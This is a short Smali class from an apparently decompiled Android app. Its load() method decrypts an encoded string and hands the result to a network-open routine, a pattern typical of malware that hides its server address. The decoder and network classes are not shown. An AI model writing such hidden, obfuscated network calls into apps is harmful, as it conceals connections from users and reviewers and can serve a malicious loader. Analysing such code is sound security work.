.class public La3/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "UjpltjjMA3WZSkVsRF9N8qsM927s8iONUpTJ/M0QkWM="
    invoke-static {v0}, La3/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La3/Net;->open(Ljava/lang/String;)V
    return-void
.end method

